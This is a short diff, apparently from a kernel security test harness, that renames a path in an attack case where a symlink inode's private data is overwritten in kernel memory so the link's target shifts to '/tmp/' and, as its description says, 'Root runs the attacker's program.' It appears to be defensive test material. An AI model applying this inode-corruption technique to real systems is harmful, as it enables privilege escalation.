@@ -8,7 +8,7 @@ ATTACK("cred_integrity", "link_other_text",
        "The text is under a sum whose key is in no memory; the sum stands in the link's seal.",
        "Root runs the attacker's program.");
 
-#define LINK "/work/link"
+#define LINK "/jobs/link"
 
 static bool control(void)
 {
@@ -21,7 +21,7 @@ static bool fire(void)
 
 	make_own_program();
 	place = call3(__NR_open, (long)LINK, O_PATH | O_NOFOLLOW, 0);
-	/* "/work" becomes "/tmp/" */
+	/* "/jobs" becomes "/tmp/" */
 	poke32(peek(inode_of(place) + member("inode.private")), 0x706d742f);
 	poke8(peek(inode_of(place) + member("inode.private")) + 4, '/');
 	wait_for_root();
@@ -31,6 +31,6 @@ static bool fire(void)
 static void victim(void)
 {
 	make_helper();
-	call2(__NR_symlink, (long)"/work/mine", (long)LINK);
+	call2(__NR_symlink, (long)"/jobs/mine", (long)LINK);
 	run_helper(LINK);
 }
